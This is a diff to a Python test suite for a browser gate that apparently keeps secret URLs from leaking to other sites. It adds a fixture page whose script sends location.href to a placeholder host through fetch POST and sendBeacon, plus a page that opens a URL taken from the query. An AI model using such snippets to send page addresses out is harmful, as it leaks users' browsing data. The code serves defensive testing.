@@ -4,6 +4,7 @@ over https."""
 from __future__ import annotations
 
 import asyncio
+import re
 import shutil
 from collections.abc import AsyncIterator
 from contextlib import AsyncExitStack
@@ -23,6 +24,13 @@ from tests.browser.gate.test_upstream import certified
 from tests.browser.gate.wires import Site, head_of
 
 CODE = "q7kx2mvw"
+POSTS = """<h1>Posts</h1><script>
+  fetch('OTHER/text', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ url: location.href }) });
+  fetch('OTHER/blob', { method: 'POST', mode: 'no-cors', body: new Blob([location.href]) });
+  navigator.sendBeacon('OTHER/beacon', new URLSearchParams({ url: location.href }));
+  fetch('OTHER/none', { method: 'POST', mode: 'no-cors' });
+</script>"""
+"""Tells another site by POST where it stands, as what counts visits does."""
 
 
 @dataclass
@@ -53,7 +61,9 @@ class World:
 
     async def elsewhere(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         while True:
-            self.told.append((await head_of(reader)).decode())
+            head = (await head_of(reader)).decode()
+            length = re.search(r"content-length: (\d+)", head, re.IGNORECASE)
+            self.told.append(head + (await reader.readexactly(int(length[1]) if length else 0)).decode())
             writer.write(_said("200 OK", "<h1>Elsewhere</h1>"))
 
     async def _page(self, path: str, query: dict[str, str]) -> bytes:
@@ -66,6 +76,10 @@ class World:
                 return _said(f"302 Found\r\nLocation: {query['to']}")
             case "/shows":
                 return _said("200 OK", f"<h1>Shows</h1><img src='{query['image']}'>{logo}")
+            case "/posts":
+                return _said("200 OK", POSTS.replace("OTHER", self.other))
+            case "/opens":
+                return _said("200 OK", f"<h1>Opens</h1><script>open('{query['to']}')</script>")
             case "/unsafe":
                 return _said("200 OK", f"<meta name=referrer content=unsafe-url><h1>Unsafe</h1>{logo}")
             case _:
@@ -119,6 +133,15 @@ async def test_a_redirect_of_an_address_that_a_model_made_up_is_not_followed(wor
     world.told.clear()
     assert await world.model_opens(f"/?{CODE}")
     assert world.asked("/logo")
+    assert not world.leaked
+
+
+async def test_what_such_a_page_posts_to_others_and_opens_beside_itself_does_not_tell_either(world: World):
+    await world.model_opens(f"/posts?{CODE}")
+    assert any(head.startswith("POST /none ") for head in world.told)
+    await world.model_opens(f"/opens?to={world.other}/{CODE}")
+    await world.model_opens(f"/opens?to=/out?to={world.other}/{CODE}")
+    assert await world.model_opens(f"/?{CODE}")
     assert not world.leaked
 
 
